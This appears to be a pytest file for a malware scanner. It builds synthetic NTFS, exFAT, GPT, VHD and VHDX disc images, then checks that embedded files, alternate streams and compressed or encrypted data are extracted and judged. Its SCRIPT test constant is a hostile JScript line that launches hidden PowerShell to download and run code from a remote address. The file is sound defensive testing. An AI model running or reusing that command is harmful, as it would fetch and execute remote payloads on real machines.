"""Volumes of NTFS and exFAT, alone, in partitions and in virtual discs that grow: files are found, damage ends."""

from __future__ import annotations

import struct
import uuid
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.formats.discs import DiscError, Packed, files, holds_files, joined, opened, virtual

SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'
WORDS = b"What was said on the second of March.\r\n" * 20
CLUSTER, RECORD = 512, 1024


def attribute(kind: int, value: bytes, stream: str = "") -> bytes:
    """Return an attribute of NTFS whose value lies within it."""
    name = stream.encode("utf-16-le")
    at = -(-(24 + len(name)) // 8) * 8
    size = -(-(at + len(value)) // 8) * 8
    head = struct.pack("<IIBBHHHIHH", kind, size, 0, len(stream), 24, 0, 0, len(value), at, 0) + name
    return (head.ljust(at, b"\0") + value).ljust(size, b"\0")


def outside(size: int, runs: bytes, flags: int = 0, unit: int = 0) -> bytes:
    """Return an attribute of data that lies in pieces; compressed in units of 2^`unit` clusters."""
    whole = -(-(65 + len(runs)) // 8) * 8
    head = struct.pack("<IIBBHHHQQHHIQQQ", 0x80, whole, 1, 0, 64, flags, 0, 0, 0, 64, unit, 0, size, size, size)
    return (head + runs).ljust(whole, b"\0")


def record(*attributes: bytes, folder: bool = False) -> bytes:
    head = struct.pack("<4sHHQHHHHIIQHH", b"FILE", 48, 3, 0, 1, 1, 56, 1 | 2 * folder, 0, RECORD, 0, 0, 0)
    raw = bytearray((head.ljust(56, b"\0") + b"".join(attributes) + b"\xff\xff\xff\xff").ljust(RECORD, b"\0"))
    raw[48:50], raw[50:52], raw[52:54] = b"\1\0", raw[510:512], raw[1022:1024]
    raw[510:512] = raw[1022:1024] = b"\1\0"
    return bytes(raw)


def named(name: str, parent: int) -> bytes:
    return attribute(
        0x30, struct.pack("<Q", parent).ljust(64, b"\0") + bytes([len(name), 1]) + name.encode("utf-16-le")
    )


def ntfs(name: str, raw: bytes, stream: str = "", *attributes: bytes) -> bytes:
    """Return a volume with a folder that holds one file in two pieces, the second in front of the first.

    `attributes`: those of the file, instead of the one of its data.
    """
    half = CLUSTER * 2
    boot = b"\xeb\x52\x90NTFS    " + struct.pack("<HB", CLUSTER, 1)
    boot = (boot.ljust(48, b"\0") + struct.pack("<QQB", 8, 0, 0xF6)).ljust(510, b"\0") + b"\x55\xaa"
    table = [record(outside(27 * RECORD, b"\x11\x36\x08"))] + [record()] * 24
    table.append(record(named("dir", 5), folder=True))
    content = attributes or (outside(len(raw), b"\x11\x02\x58\x11\x02\xfc"),)
    extra = attribute(0x80, SCRIPT, stream) if stream else b""
    table.append(record(named(name, 25), *content, extra))
    volume = bytearray((boot.ljust(8 * CLUSTER, b"\0") + b"".join(table)).ljust(96 * CLUSTER, b"\0"))
    volume[0x58 * CLUSTER : 0x58 * CLUSTER + half] = raw[:half].ljust(half, b"\0")
    volume[0x54 * CLUSTER : 0x54 * CLUSTER + half] = raw[half : 2 * half].ljust(half, b"\0")
    return bytes(volume)


def exfat(name: str, raw: bytes, *, circle: bool = False) -> bytes:
    """Return a volume with one file whose clusters the table chains."""
    boot = (b"\xeb\x76\x90EXFAT   ".ljust(80, b"\0") + struct.pack("<IIIII", 1, 1, 2, 60, 2)).ljust(108, b"\0")
    boot = (boot + b"\x09\x00\x01").ljust(510, b"\0") + b"\x55\xaa"
    last = 0xFFFFFFFF
    table = struct.pack("<6I", 0xFFFFFFF8, last, last, 4, 3 if circle else 5, last)
    letters = name.encode("utf-16-le").ljust(30, b"\0")
    entry = b"\x85\x02\0\0\x20".ljust(32, b"\0")
    entry += b"\xc0\1\0" + bytes([len(name)]) + bytes(4) + struct.pack("<QIIQ", len(raw), 0, 3, len(raw))
    entry += b"\xc1\0" + letters
    return (boot + table.ljust(512, b"\0") + entry.ljust(512, b"\0") + raw).ljust(64 * 512, b"\0")


def gpt(volume: bytes) -> bytes:
    entry = bytes(range(1, 33)) + struct.pack("<QQ", 8, 8 + len(volume) // 512)
    protective = (bytes(450) + b"\xee").ljust(510, b"\0") + b"\x55\xaa"
    head = (b"EFI PART".ljust(72, b"\0") + struct.pack("<QII", 2, 128, 128)).ljust(512, b"\0")
    return protective + head + entry.ljust(6 * 512, b"\0") + volume


def old_hyper_v(disc: bytes) -> bytes:
    """Return a VHD that grows, its blocks in the order from the last to the first."""
    block, count = 4096, -(-len(disc) // 4096)
    footer = (b"conectix".ljust(48, b"\0") + struct.pack(">Q", len(disc))).ljust(512, b"\0")
    head = (b"cxsparse".ljust(16, b"\0") + struct.pack(">QIII", 1536, 0, count, block)).ljust(1024, b"\0")
    table = struct.pack(f">{count}I", *(4 + 9 * (count - 1 - one) for one in range(count))).ljust(512, b"\0")
    blocks = [bytes(512) + disc[one * block : one * block + block].ljust(block, b"\0") for one in range(count)]
    return footer + head + table + b"".join(reversed(blocks)) + footer


def hyper_v(disc: bytes) -> bytes:
    """Return a VHDX with one block."""
    ids = ("2DC27766F62342009D64115E9BFD4A08", "8B7CA20647904B9AB8FE575F050F886E", "CAA16737FA364D43B3B633F0AA44E76B",
           "2FA54224CD1B4876B2115DBED83BF4B8", "8141BF1DA96F4709BA47F233A8FAAB5F")  # fmt: skip
    table, metadata, block, size, sector = (uuid.UUID(one).bytes_le for one in ids)
    out = bytearray(3 << 20)
    out[:8], out[196608:196612] = b"vhdxfile", b"regi"
    out[196624 : 196624 + 64] = table + struct.pack("<QQ", 262144, 0) + metadata + struct.pack("<QQ", 327680, 0)
    out[327680 + 10] = 3
    for number, (one, value) in enumerate(((block, 1 << 20), (size, len(disc)), (sector, 512))):
        at = 327680 + 32 + 32 * number
        out[at : at + 24] = one + struct.pack("<II", 65536 + 16 * number, 8)
        struct.pack_into("<Q", out, 327680 + 65536 + 16 * number, value)
    struct.pack_into("<Q", out, 262144, 2 << 20 | 6)
    out[2 << 20 : (2 << 20) + len(disc)] = disc
    return bytes(out)


IMAGES: dict[str, Callable[[str, bytes], bytes]] = {
    "ntfs": ntfs,
    "exfat": exfat,
    "ntfs in gpt": lambda name, raw: gpt(ntfs(name, raw)),
    "exfat in a vhd that grows": lambda name, raw: old_hyper_v(exfat(name, raw)),
    "ntfs in vhdx": lambda name, raw: hyper_v(gpt(ntfs(name, raw))),
}


@pytest.mark.parametrize("kind", IMAGES)
def test_files_of_a_volume_are_read_and_judged(kind: str) -> None:
    script = SCRIPT + b"// " + b"x" * 1200
    attack, honest = IMAGES[kind]("invoice.js", script), IMAGES[kind]("notes.txt", WORDS)
    image = opened(attack)
    [(path, pieces, size)] = files(attack, image)
    assert isinstance(pieces, bytes | list)
    assert (path.rsplit("/", 1)[-1], joined(image, pieces, size)) == ("invoice.js", script)
    assert holds_files(attack) or virtual(attack)
    found = Engine().judge(attack, "a.img")
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found
    assert Engine().judge(honest, "a.img").verdict is Verdicts.CLEAN


def test_a_script_in_a_second_stream_is_told_and_the_mark_of_the_web_is_not() -> None:
    hidden, marked = ntfs("notes.txt", WORDS, "run.js"), ntfs("notes.txt", WORDS, "Zone.Identifier")
    assert "name.stream" in [one.rule for one in Engine().judge(hidden).findings]
    assert "name.stream" not in [one.rule for one in Engine().judge(marked).findings]


@pytest.mark.parametrize("flags", [0x4000, 1], ids=["encrypted", "no unit"])
def test_what_is_locked_on_the_disc_is_named_and_said_not_to_be_read(flags: int) -> None:
    raw = ntfs("invoice.js", SCRIPT, "", outside(len(SCRIPT), b"\x11\x02\x58", flags))
    assert [(path, pieces) for path, pieces, _ in files(raw, raw)] == [("dir/invoice.js", None)]
    assert "disc.closed" in [one.rule for one in Engine().judge(raw).findings]


def plain_chunk(raw: bytes) -> bytes:
    """Return a chunk of LZNT1 without repetitions."""
    pieces = b"".join(b"\0" + raw[at : at + 8] for at in range(0, len(raw), 8))
    return struct.pack("<H", 0xB000 | len(pieces) - 1) + pieces


def test_what_ntfs_compresses_is_read() -> None:
    """Units of four clusters: one packed into two of them, one of nothing, one that packing made no smaller."""
    unit = 4 * CLUSTER
    contents = SCRIPT.ljust(unit, b"\0") + bytes(unit) + bytes(range(256)) * 8
    runs = b"\x11\x02\x58\x01\x02\x01\x04\x11\x04\xfc"
    raw = bytearray(ntfs("invoice.js", plain_chunk(SCRIPT), "", outside(len(contents), runs, 1, 2)))
    raw[0x54 * CLUSTER : 0x58 * CLUSTER] = contents[2 * unit :]
    [(path, pieces, size)] = files(bytes(raw), bytes(raw))
    assert isinstance(pieces, Packed)
    assert (path, pieces.read(size), pieces.read(100)) == ("dir/invoice.js", contents, contents[:100])
    assert Engine().judge(bytes(raw)).score >= 0.5
    raw[0x58 * CLUSTER + 2] = 1  # a repetition before anything stands there
    assert [one.rule for one in Engine().judge(bytes(raw)).findings] == ["disc.closed"]


@pytest.mark.parametrize(("algorithm", "known"), [(0, True), (2, True), (7, False)])
def test_what_windows_keeps_packed_is_read(algorithm: int, known: bool) -> None:
    stands = SCRIPT + b" " * (4096 - len(SCRIPT))  # a chunk that packing made no smaller
    mark = struct.pack("<IHHIIII", 0x80000017, 16, 0, 1, 2, 1, algorithm)
    attributes = (
        attribute(0x80, stands[: len(SCRIPT)], "WofCompressedData"),
        outside(len(SCRIPT), b"\x01\x08", 0x8000),
        attribute(0xC0, mark),
    )
    raw = ntfs("invoice.js", b"", "", *attributes)
    [(path, pieces, size)] = files(raw, raw)
    assert (path, size) == ("dir/invoice.js", len(SCRIPT))
    assert (pieces.read(size) if isinstance(pieces, Packed) else pieces) == (SCRIPT if known else None)
    assert (Engine().judge(raw).score >= 0.5) is known


def test_a_virtual_disc_without_a_known_volume_is_said_not_to_be_read() -> None:
    verdict = Engine().judge(old_hyper_v(bytes(65536)), "a.vhd")
    assert (verdict.verdict, [one.rule for one in verdict.findings]) == (Verdicts.UNREADABLE, ["disc.closed"])
    assert Engine().judge(b"MSWIM\0\0\0" + bytes(100)).verdict is Verdicts.UNREADABLE


def test_what_stands_behind_more_entries_than_are_looked_at_is_said_not_to_be() -> None:
    raw = bytearray(ntfs("notes.txt", WORDS))
    size = raw.index(struct.pack("<QQQ", *[27 * RECORD] * 3), 8 * CLUSTER)
    raw[size : size + 24] = struct.pack("<QQQ", *[6000 * RECORD] * 3)
    assert [one.rule for one in Engine().judge(bytes(raw)).findings] == ["limit.members"]


def test_a_file_that_goes_in_a_circle_ends() -> None:
    raw = exfat("a.js", bytes(1500), circle=True)
    with pytest.raises(DiscError, match="circle"):
        list(files(raw, raw))


@given(
    st.sampled_from(sorted(IMAGES)),
    st.lists(st.tuples(st.integers(0, 1 << 22), st.binary(min_size=1, max_size=8)), max_size=8),
)
def test_damaged_volumes_end(kind: str, changes: list[tuple[int, bytes]]) -> None:
    raw = bytearray(IMAGES[kind]("a.js", WORDS))
    for at, data in changes:
        place = at % (len(raw) - len(data))
        raw[place : place + len(data)] = data
    try:
        image = opened(bytes(raw))
        for _, pieces, size in files(bytes(raw), image):
            if isinstance(pieces, bytes | list):
                joined(image, pieces, min(size, len(raw)))
    except DiscError:
        pass
